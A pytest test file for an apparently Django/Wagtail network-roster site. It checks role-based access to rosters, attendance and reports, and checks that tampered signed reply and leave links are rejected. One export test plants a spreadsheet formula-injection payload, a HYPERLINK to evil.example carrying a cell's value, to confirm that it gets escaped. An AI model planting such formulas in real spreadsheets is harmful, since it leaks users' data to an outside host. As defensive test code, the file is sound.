"""
Who may see and change a network's roster, its meetings' attendance and its
report: the network's own lead, and LLA editors; not another network's lead,
a member or a visitor. And a reply or leave link that was forged, altered,
expired or made for someone else changes nothing, and says so.
"""

import datetime

from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group
from django.core import signing
from django.urls import reverse
from django.utils import timezone

import pytest

from core.members import MEMBERS_GROUP
from networks import links
from networks.factories import NetworkIndexPageFactory, NetworkPageFactory
from networks.models import Attendee, MeetingRecord, RosterMember
from networks.permissions import ensure_lla_editors_group, ensure_network_group

pytestmark = pytest.mark.django_db

ROLES = ["lead of A", "lead of B", "LLA editor", "member", "anonymous"]


@pytest.fixture
def world(home):
    index = NetworkIndexPageFactory(parent=home)
    a = NetworkPageFactory(parent=index, title="Network A", slug="a")
    b = NetworkPageFactory(parent=index, title="Network B", slug="b")
    users = {}
    make = get_user_model().objects.create_user
    for role, group in (
        ("lead of A", ensure_network_group(a)),
        ("lead of B", ensure_network_group(b)),
        ("LLA editor", ensure_lla_editors_group()),
        ("member", Group.objects.get_or_create(name=MEMBERS_GROUP)[0]),
    ):
        user = make(role.replace(" ", "-"), f"{role[:4]}@example.org", "pw 12345678")
        user.groups.add(group)
        users[role] = user
    users["anonymous"] = None
    person = RosterMember.objects.create(
        network=a, name="Rosa Roster", email="rosa@school.example"
    )
    start = timezone.now() + datetime.timedelta(days=5)
    record = MeetingRecord.objects.create(
        network=a,
        uid="7b1f4f44-9b5b-4bb0-9d50-1d2f6d0c3c11",
        starts_at=start,
        ends_at=start + datetime.timedelta(hours=1),
        where="Leeds Civic Hall",
    )
    attendee = Attendee.objects.create(meeting=record, member=person)
    return {
        "a": a,
        "b": b,
        "users": users,
        "person": person,
        "record": record,
        "attendee": attendee,
    }


def _as(client, world, role):
    user = world["users"][role]
    if user is not None:
        client.force_login(user)
    return client


ALLOWED = {"lead of A", "LLA editor"}


@pytest.mark.parametrize("role", ROLES)
def test_the_roster_list(client, world, role):
    response = _as(client, world, role).get(reverse("roster:index"))
    if role in ALLOWED:
        assert response.status_code == 200
        assert "Rosa Roster" in response.content.decode()
    elif role == "lead of B":
        assert response.status_code == 200
        assert "Rosa Roster" not in response.content.decode()
    else:
        assert response.status_code in (302, 403)
        assert "Rosa Roster" not in response.content.decode()


@pytest.mark.parametrize("role", ROLES)
def test_editing_a_roster_row(client, world, role):
    url = reverse("roster:edit", args=[world["person"].pk])
    response = _as(client, world, role).post(
        url,
        {
            "network": world["a"].pk,
            "name": "Changed",
            "email": "rosa@school.example",
            "organisation": "",
            "role": "",
            "status": "active",
        },
    )
    world["person"].refresh_from_db()
    if role in ALLOWED:
        assert response.status_code == 302
        assert world["person"].name == "Changed"
    else:
        assert response.status_code in (302, 403, 404)
        assert world["person"].name == "Rosa Roster"


@pytest.mark.parametrize("role", ROLES)
def test_adding_to_network_a(client, world, role):
    response = _as(client, world, role).post(
        reverse("roster:add"),
        {
            "network": world["a"].pk,
            "name": "New Person",
            "email": "new@school.example",
            "organisation": "",
            "role": "",
            "status": "active",
        },
    )
    added = RosterMember.objects.filter(email="new@school.example").exists()
    if role in ALLOWED:
        assert response.status_code == 302
        assert added
    else:
        assert not added
        assert response.status_code in (200, 302, 403)


@pytest.mark.parametrize("role", ROLES)
def test_attendance(client, world, role):
    url = reverse("meetings:attendance", args=[world["record"].pk])
    client = _as(client, world, role)
    shown = client.get(url)
    client.post(url, {"came": [world["attendee"].pk]})
    world["attendee"].refresh_from_db()
    if role in ALLOWED:
        assert shown.status_code == 200
        assert "Rosa Roster" in shown.content.decode()
        assert world["attendee"].attended is True
    else:
        assert shown.status_code in (302, 403, 404)
        assert "Rosa Roster" not in shown.content.decode()
        assert world["attendee"].attended is None


@pytest.mark.parametrize("role", ROLES)
def test_the_report(client, world, role):
    response = _as(client, world, role).get(reverse("meetings:report"))
    text = response.content.decode()
    if role in ALLOWED:
        assert response.status_code == 200
        assert "Network A" in text
    elif role == "lead of B":
        assert response.status_code == 200
        assert "Network A" not in text
    else:
        assert response.status_code in (302, 403)


def test_rosters_are_never_public(client, world):
    page = client.get(world["a"].url).content.decode()
    assert "Rosa Roster" not in page
    assert "rosa@school.example" not in page
    feed = client.get(world["a"].url + "calendar/").content.decode()
    assert "rosa" not in feed.lower()


# Links in emails -----------------------------------------------------------


def _path(url):
    return "/" + url.split("://", 1)[1].split("/", 1)[1]


def test_a_good_reply_link_records_the_reply(client, world):
    path = _path(links.rsvp_url(world["attendee"], "no"))
    assert client.post(path, {"reply": "no"}).status_code == 200
    world["attendee"].refresh_from_db()
    assert world["attendee"].reply == "no"


@pytest.mark.parametrize(
    "forge",
    [
        "altered",
        "forged",
        "expired",
        "other person",
    ],
)
def test_a_bad_reply_link_changes_nothing_and_says_so(client, world, forge, settings):
    attendee = world["attendee"]
    good = links.rsvp_url(attendee, "yes")
    token = good.rstrip("/").rsplit("/", 1)[1]
    if forge == "altered":
        token = token[:-3] + ("abc" if not token.endswith("abc") else "xyz")
    elif forge == "forged":
        token = signing.dumps({"a": attendee.pk, "r": "yes"}, key="not the secret")
    elif forge == "expired":
        signer = signing.TimestampSigner(salt=links.SALT["rsvp"])
        old = timezone.now() - datetime.timedelta(days=400)
        signer.timestamp = lambda: signing.b62_encode(int(old.timestamp()))
        token = signer.sign_object({"a": attendee.pk, "r": "yes"}, compress=True)
    else:  # someone edits the person in their link to another's
        other = Attendee.objects.create(
            meeting=world["record"],
            member=RosterMember.objects.create(
                network=world["a"], name="Other", email="other@school.example"
            ),
        )
        payload = signing.loads(token, salt=links.SALT["rsvp"])
        unsigned = signing.dumps(payload, salt=links.SALT["rsvp"], compress=True)
        body, signature = unsigned.rsplit(":", 1)
        token = (
            signing.dumps(
                {"a": other.pk, "r": "yes"}, salt=links.SALT["rsvp"], compress=True
            ).rsplit(":", 1)[0]
            + ":"
            + signature
        )
    path = reverse("networks:rsvp", args=[token])
    response = client.post(path, {"reply": "yes"})
    assert response.status_code in (400, 410)
    assert "Nothing has been changed" in response.content.decode()
    assert not Attendee.objects.exclude(reply="").exists()


@pytest.mark.parametrize("forge", ["altered", "forged", "reply link"])
def test_a_bad_leave_link_changes_nothing_and_says_so(client, world, forge):
    person = world["person"]
    token = links.leave_url(person).rstrip("/").rsplit("/", 1)[1]
    if forge == "altered":
        token = token[:-3] + ("abc" if not token.endswith("abc") else "xyz")
    elif forge == "forged":
        token = signing.dumps({"m": person.pk}, key="not the secret")
    else:  # a reply link's token is no leave link
        token = links.rsvp_url(world["attendee"], "no").rstrip("/").rsplit("/", 1)[1]
    response = client.post(reverse("networks:leave", args=[token]))
    assert response.status_code == 400
    assert "Nothing has been changed" in response.content.decode()
    person.refresh_from_db()
    assert person.status == RosterMember.Status.ACTIVE


@pytest.mark.parametrize("role", ["lead of A", "lead of B", "LLA editor"])
def test_the_dashboard_shows_the_next_meeting_and_its_replies(client, world, role):
    world["attendee"].reply = "yes"
    world["attendee"].sent_sequence = 0
    world["attendee"].save()
    text = _as(client, world, role).get(reverse("wagtailadmin_home")).content.decode()
    shows = "Network A, " in text and "1 coming, 0 not coming, of 1 invited" in text
    assert shows == (role in ALLOWED)


def test_the_roster_export_runs_no_formula(client, world):
    RosterMember.objects.create(
        network=world["a"],
        name='=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        email="evil@school.example",
        organisation="+1+1",
    )
    client.force_login(world["users"]["lead of A"])
    response = client.get(reverse("roster:index") + "?export=csv")
    text = b"".join(response.streaming_content).decode()
    assert "'=HYPERLINK" in text
    assert "'+1+1" in text
    assert ",=HYPERLINK" not in text and '"=HYPERLINK' not in text


def test_a_reply_to_a_cancelled_meeting_changes_nothing(client, world):
    world["record"].cancelled = True
    world["record"].save()
    path = _path(links.rsvp_url(world["attendee"], "yes"))
    answer = client.post(path, {"reply": "yes"})
    assert "This meeting is cancelled" in answer.content.decode()
    world["attendee"].refresh_from_db()
    assert world["attendee"].reply == ""
